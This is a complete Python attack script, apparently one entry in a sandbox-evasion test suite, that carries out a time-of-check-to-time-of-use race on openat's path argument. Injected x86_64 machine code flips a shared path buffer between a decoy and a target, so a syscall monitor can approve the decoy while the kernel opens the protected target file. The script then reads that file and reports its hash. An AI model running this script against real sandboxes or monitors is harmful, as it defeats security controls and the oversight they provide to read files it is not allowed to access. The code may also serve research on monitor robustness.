"""Phantom-style TOCTOU on a syscall's path argument: a thread keeps flipping
a shared path buffer between DECOY and TARGET while the main thread calls
openat(2) on that buffer, so the string a monitor copies at syscall entry can
differ from the one the kernel resolves a moment later.

The flipping loop is a few bytes of x86_64 machine code run from a Python
thread through ctypes (which releases the GIL for the call), so it really
runs concurrently with the openat instead of waiting for the GIL.

argv: TARGET DECOY. Loops (at most 5000 tries) until an openat lands on
TARGET, identified by fstat (st_dev, st_ino) against os.stat(TARGET), then
reads it. Prints one JSON line with the tries, how many opens landed on the
decoy / failed / elsewhere, and the byte count and SHA-256 of what was read.
Exits 1 if no try opened TARGET.
"""
import ctypes
import hashlib
import json
import os
import sys
import threading
import time

TECHNIQUE = "phantom_toctou"
AT_FDCWD = -100
MAX_TRIES = 5000

PROT_READ, PROT_WRITE, PROT_EXEC = 1, 2, 4
MAP_PRIVATE, MAP_ANONYMOUS = 0x02, 0x20
PAGE = 4096

# void flip(char *dst, const char *a, const char *b, size_t n, volatile int *stop):
# copy a then b over dst, again and again, until *stop is non-zero.
FLIP = bytes.fromhex(
    "4989f9"      # mov r9, rdi
    "4989f2"      # mov r10, rsi
    "4989cb"      # mov r11, rcx
    "4c89cf"      # top: mov rdi, r9
    "4c89d6"      # mov rsi, r10
    "4c89d9"      # mov rcx, r11
    "f3a4"        # rep movsb
    "4c89cf"      # mov rdi, r9
    "4889d6"      # mov rsi, rdx
    "4c89d9"      # mov rcx, r11
    "f3a4"        # rep movsb
    "41833800"    # cmp dword [r8], 0
    "74e4"        # je top
    "c3"          # ret
)

libc = ctypes.CDLL(None, use_errno=True)
libc.openat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
libc.openat.restype = ctypes.c_int
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int,
                      ctypes.c_int, ctypes.c_long]
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]


def make_flip():
    code = libc.mmap(None, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0)
    if code is None or code == ctypes.c_void_p(-1).value:
        err = ctypes.get_errno()
        raise OSError(err, "mmap: %s" % os.strerror(err))
    ctypes.memmove(code, FLIP, len(FLIP))
    if libc.mprotect(code, PAGE, PROT_READ | PROT_EXEC) != 0:
        err = ctypes.get_errno()
        raise OSError(err, "mprotect: %s" % os.strerror(err))
    proto = ctypes.CFUNCTYPE(None, ctypes.c_void_p, ctypes.c_void_p, ctypes.c_void_p,
                             ctypes.c_size_t, ctypes.c_void_p)
    return code, proto(code)


def read_fd(fd):
    data = bytearray()
    while True:
        chunk = os.read(fd, 65536)
        if not chunk:
            return bytes(data)
        data += chunk


def ident(st):
    return st.st_dev, st.st_ino


def main(argv):
    if len(argv) != 2:
        raise SystemExit("usage: phantom_toctou.py TARGET DECOY")
    target, decoy = (os.fsencode(os.path.abspath(p)) for p in argv)
    target_id, decoy_id = ident(os.stat(target)), ident(os.stat(decoy))
    if target_id == decoy_id:
        raise ValueError("TARGET and DECOY are the same file")

    size = max(len(target), len(decoy)) + 1
    shared = ctypes.create_string_buffer(decoy, size)
    # NUL-padded to the same size, so each flip rewrites the whole string.
    images = [ctypes.create_string_buffer(p, size) for p in (target, decoy)]
    stop = ctypes.c_int(0)
    code, flip = make_flip()
    thread = threading.Thread(target=flip, args=(
        ctypes.addressof(shared), ctypes.addressof(images[0]), ctypes.addressof(images[1]),
        size, ctypes.addressof(stop)), daemon=True)
    thread.start()
    counts = {"decoy": 0, "failed": 0, "other": 0}
    data = None
    try:
        deadline = time.monotonic() + 5
        while shared.raw == images[1].raw:  # wait until the flipper really runs
            if time.monotonic() > deadline:
                raise OSError("flipper thread did not start")
            time.sleep(0.001)
        for tries in range(1, MAX_TRIES + 1):
            if tries % 64 == 0:
                time.sleep(0.001)  # lets a descheduled flipper get a CPU back
            fd = libc.openat(AT_FDCWD, ctypes.addressof(shared), os.O_RDONLY | os.O_CLOEXEC)
            if fd < 0:
                counts["failed"] += 1  # a torn string naming no file
                continue
            try:
                opened = ident(os.fstat(fd))
                if opened == target_id:
                    data = read_fd(fd)
                    break
                counts["decoy" if opened == decoy_id else "other"] += 1
            finally:
                os.close(fd)
    finally:
        stop.value = 1
        thread.join()
        libc.munmap(code, PAGE)
    if data is None:
        raise OSError("no openat landed on TARGET in %d tries (%s)" % (MAX_TRIES, counts))
    return {"technique": TECHNIQUE, "ok": True, "target": os.fsdecode(target),
            "decoy": os.fsdecode(decoy), "opened": "target", "tries": tries,
            "opened_decoy": counts["decoy"], "failed": counts["failed"],
            "opened_other": counts["other"], "bytes": len(data),
            "sha256": hashlib.sha256(data).hexdigest()}


if __name__ == "__main__":
    try:
        result = main(sys.argv[1:])
    except Exception as exc:
        sys.stderr.write("%s: %s\n" % (TECHNIQUE, exc))
        sys.exit(1)
    print(json.dumps(result))
